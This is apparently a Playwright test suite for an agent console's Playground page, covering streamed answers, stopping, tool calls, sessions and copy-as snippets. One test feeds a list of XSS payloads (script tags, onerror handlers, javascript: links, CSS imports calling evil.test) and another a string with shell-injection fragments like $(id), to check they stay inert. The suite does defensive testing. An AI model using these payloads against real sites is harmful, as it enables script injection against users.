"""The Playground: answers seen as they come, stopped, looked into, asked for again elsewhere."""

import base64
import json
import os
import re
import subprocess
import sys
import uuid

import pytest
from playwright.sync_api import expect

import effort
from servers import AGENTS, new_session_id, wait_until

COUNT = 50_000
LABELS = {"curl": "curl", "boto3": "boto3", "python": "headwater.Client"}
#: What shells and Python give a meaning to.
AWKWARD = 'it\'s $HOME `id` 日本語 🎉 \\n "quoted" !! $(id)'


@pytest.fixture(scope="module")
def streams(console_server):
    return console_server.deploy(AGENTS / "streams.py", name="streams")


@pytest.fixture(scope="module")
def tooling(console_server):
    return console_server.deploy(AGENTS / "tooling.py", name="tooling")


@pytest.fixture(scope="module")
def echo(console_server):
    return console_server.deploy(AGENTS / "echo.py", name="echo")


@pytest.fixture
def playground(open_page):
    """`playground("streams")`: the page, ready to write."""

    def open_one(name, session="", **options):
        page = open_page(f"/playground/{name}?session={session}", **options)
        expect(box(page)).to_be_visible()
        return page

    return open_one


def box(page):
    return page.locator("#playground-input")


def send(page, payload):
    """A string goes as a prompt; anything else as raw JSON. By keyboard, as who sits there does."""
    is_prompt = isinstance(payload, str)
    page.get_by_role("radio", name="Prompt" if is_prompt else "JSON", exact=True).check()
    box(page).fill(payload if is_prompt else json.dumps(payload))
    box(page).press("Control+Enter")


def answer(page):
    return page.locator(".turn .answer-box").last


def expect_state(page, state):
    expect(page.locator(".turn").last).to_have_attribute("data-state", state)


def stream_of(*texts):
    """What makes `streams` send these texts, each an event of its own."""
    return stream_of_bytes(*(b"data: " + json.dumps(text).encode() + b"\n\n" for text in texts))


def stream_of_bytes(*chunks):
    return {"do": "chunks", "chunks": [base64.b64encode(chunk).decode() for chunk in chunks]}


def test_tokens_are_seen_before_the_answer_ends(playground, console_server, streams):
    session, gate = new_session_id(), uuid.uuid4().hex
    page = playground("streams", session)

    send(page, {"do": "gated", "gate": gate})

    expect(answer(page)).to_have_text("first")
    expect_state(page, "streaming")
    console_server.ask(streams, {"do": "open", "gate": gate}, session)
    expect(answer(page)).to_have_text("firstsecond")
    expect_state(page, "complete")
    expect(page.locator(".stream-figures")).to_contain_text("Events2")


def test_a_stream_is_stopped_in_its_middle_and_the_agent_notices(playground, console_server, streams):
    session, record = new_session_id(), uuid.uuid4().hex
    page = playground("streams", session)
    stops = (lambda: page.keyboard.press("Escape"), page.get_by_role("button", name="Stop", exact=True).click)
    for number, stop in enumerate(stops):
        send(page, {"do": "endless", "record": f"{record}{number}"})
        expect(page.locator(".event-line").nth(5)).to_be_visible()

        stop()

        expect_state(page, "stopped")
        expect(answer(page)).to_contain_text("Stopped after")
        told = {"do": "record", "record": f"{record}{number}"}
        wait_until(lambda: console_server.ask(streams, told, session)["ended"], what="the agent to notice")  # noqa: B023


HOSTILE = (
    "<script>window.pwned = 1; fetch('http://evil.test/script')</script>\n\n",
    "<img src='http://evil.test/html.png' onerror='window.pwned = 2'>\n\n",
    "[click](javascript:window.pwned=3) [me](data:text/html,<script>window.pwned=4</script>)\n\n",
    "![pixel](http://evil.test/markdown.png)\n\n",
    "![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=5'/>)\n\n",
    "<svg onload='window.pwned=6'></svg><iframe src='http://evil.test/frame'></iframe>\n\n",
    "\x1b]8;;http://evil.test/osc\x07osc\x1b]8;;\x07 \x1b[31mred\x1b[0m\x00\x08 ‮reversed\n\n",
    "<style>@import 'http://evil.test/style'; * { display: none }</style><link rel=stylesheet href=http://evil.test/l>\n\n",
    "<form action='http://evil.test/form'><button>Send</button></form><base href='http://evil.test/'>\n\n",
    "```html\n<script>window.pwned = 7</script>\n```\n\n",
    "the end",
)


def test_a_hostile_answer_does_nothing(playground, console_server, streams):
    requests, dialogs = [], []

    def watch(page):
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    page = playground("streams", before=watch)
    send(page, stream_of(*HOSTILE, {"error": HOSTILE[0], "error_type": HOSTILE[1]}, {"data-uri": HOSTILE[4]}))

    expect(answer(page)).to_contain_text("the end")
    expect_state(page, "complete")
    for line in page.locator(".event-line").all()[:3]:
        line.click()
    page.get_by_role("radio", name="Raw").check()

    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert [url for url in requests if not url.startswith(console_server.url)] == []
    within = page.locator(".answer-box, .stream-side")
    assert within.locator("script, img, iframe, style, link, form, object, embed, base").count() == 0
    links = within.locator("a").evaluate_all("links => links.map(one => [one.protocol, one.rel])")
    assert [link for link in links if link[0] not in ("http:", "https:", "mailto:")] == []
    expect(answer(page)).to_contain_text("<script>window.pwned = 1")
    expect(answer(page)).to_contain_text("osc red reversed")


@effort.long
def test_broken_utf8_and_a_torn_end_are_shown(playground, streams):
    page = playground("streams")

    send(page, stream_of_bytes(b'data: "ab\xff\xe6\x97', b'\xa5"\r\n\r\ndata: "c', b"d"))

    expect(answer(page)).to_contain_text("ab�日")
    expect_state(page, "complete")


def test_a_stream_of_fifty_thousand_events_leaves_the_page_usable(playground, streams):
    page = playground("streams")
    send(page, {"do": "words", "count": COUNT})
    expect(page.locator(".event-line").first).to_be_visible()

    box(page).fill("still here")

    expect_state(page, "complete")
    expect(box(page)).to_have_value("still here")
    expect(page.locator(".stream-figures")).to_contain_text(f"Events{COUNT / 1000:.1f}k")
    assert page.locator("#main *").count() < 3_000
    page.locator(".event-list").press("End")
    expect(page.locator(".event-line[aria-selected=true]")).to_contain_text(f"word{COUNT - 1}")


def test_a_tool_call_of_a_strands_agent_is_shown(playground, tooling):
    page = playground("tooling")

    send(page, "How much is 2+1")

    tool = page.locator(".tool-call")
    expect(tool).to_have_count(1)
    expect(tool).to_have_attribute("data-tool", "calculator")
    expect(tool).to_contain_text("done")
    expect(tool.get_by_label("Input")).to_contain_text('"expression"')
    expect(tool.get_by_label("Result")).to_have_text("3")
    expect_state(page, "complete")
    expect(page.locator(".timeline .tool-row")).to_have_text("calculator")
    # Each token comes in two forms, and is said once.
    assert answer(page).locator(".markdown").last.inner_text().count("[scripted demo model, not an LLM]") == 1


@effort.long
def test_an_event_is_inspected_raw_and_decoded(playground, tooling):
    page = playground("tooling")
    send(page, "hello")
    expect_state(page, "complete")

    page.locator(".event-line", has_text="Text").first.click()

    detail = page.locator(".event-detail")
    expect(detail.locator("pre")).to_contain_text('"contentBlockDelta": {')
    page.get_by_role("radio", name="Raw").check()
    expect(detail.locator("pre")).to_contain_text('data: {"event": {"contentBlockDelta"')
    page.get_by_role("button", name="Text", exact=True).click()
    expect(page.locator(".event-line", has_text="Text")).to_have_count(0)


@effort.long
def test_a_conversation_stays_in_its_session_until_a_new_one_is_asked_for(playground, streams):
    page = playground("streams")
    sessions = []
    for _ in range(2):
        send(page, stream_of("hello"))
        expect_state(page, "complete")
        page.wait_for_url(re.compile("session=console-"))
        sessions.append(page.url.partition("session=")[2])
    page.get_by_role("button", name="New", exact=True).click()
    send(page, stream_of("hello"))
    expect(page.locator(".turn")).to_have_count(3)
    expect_state(page, "complete")
    page.wait_for_url(re.compile("session=console-"))

    assert sessions[0] == sessions[1] != page.url.partition("session=")[2]


@effort.long
def test_an_agent_that_fails_is_said_with_what_to_do(playground, streams):
    page = playground("streams")

    send(page, {"do": "status", "status": 500, "body": "no model"})

    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("RuntimeClientError")
    expect(alert.get_by_role("link", name="Session's log")).to_be_visible()
    expect_state(page, "refused")
    assert all("424" in complaint for complaint in page.complaints)
    page.complaints.clear()


@effort.long
def test_a_session_id_that_is_too_short_is_said_before_it_is_sent(playground, streams):
    page = playground("streams", "short")
    page.get_by_label("Session").select_option(label="Type an id…")

    expect(page.get_by_text("this one has 5")).to_be_visible()
    box(page).fill("hello")
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_disabled()


@effort.long
def test_what_was_said_survives_a_reload_and_stays_in_the_tab(playground, streams):
    page = playground("streams")
    send(page, stream_of("kept for this tab"))
    expect_state(page, "complete")

    page.reload()

    expect(answer(page)).to_contain_text("kept for this tab")
    assert "kept for this tab" not in page.evaluate("JSON.stringify(localStorage)")


def test_the_same_request_runs_as_copied(playground, echo):
    page = playground("echo", new_session_id())
    send(page, AWKWARD)
    expect_state(page, "complete")
    page.get_by_role("button", name="Copy as…").click()

    for calls, kind in enumerate(("curl", "boto3", "python"), 2):
        page.get_by_role("dialog").get_by_text(LABELS[kind], exact=True).click()
        said = run(page.locator(f"[data-snippet={kind}]").inner_text(), is_shell=kind == "curl")

        assert "$HOME `id` 日本語 🎉" in said
        # The session answered that answered before.
        assert re.search(rf"""["']calls["']: ?{calls}""", said), said


def run(snippet, *, is_shell):
    """What a program prints that a page offered."""
    command = ["bash", "-c", snippet] if is_shell else [sys.executable, "-c", snippet]
    done = subprocess.run(command, capture_output=True, timeout=60, env={**os.environ, "PYTHONUTF8": "1"})
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode()


@effort.long
def test_the_page_is_accessible_while_a_stream_runs(playground, axe, tooling):
    page = playground("tooling")
    send(page, "How much is 2+1")
    expect_state(page, "complete")
    page.locator(".event-line").first.click()

    found = axe(page)
    page.get_by_role("button", name="Copy as…").click()

    assert found + axe(page) == []


@effort.long
@pytest.mark.parametrize(
    ("agent", "protocol", "note", "said"),
    [
        ("agui_sums", "AGUI", "This agent speaks AG-UI", "the sum is 42, said"),
        ("a2a_sums", "A2A", "This agent speaks A2A", "the sum is 42 (call 1 of"),
    ],
)
def test_a_prompt_goes_in_the_terms_of_its_agent(playground, console_server, agent, protocol, note, said):
    name = f"speaks_{agent}"
    console_server.deploy(
        AGENTS / f"{agent}.py", name=name, protocolConfiguration={"serverProtocol": protocol}
    )
    page = playground(name)
    expect(page.get_by_text(note)).to_be_visible()

    send(page, "20 and 22")

    expect_state(page, "complete")
    expect(answer(page)).to_contain_text(said)
    expect(page.locator(".turn .asked").last).to_have_text("20 and 22")
    send(page, "die")
    expect(page.locator(".turn").last).to_contain_text("stopped before its answer was complete")
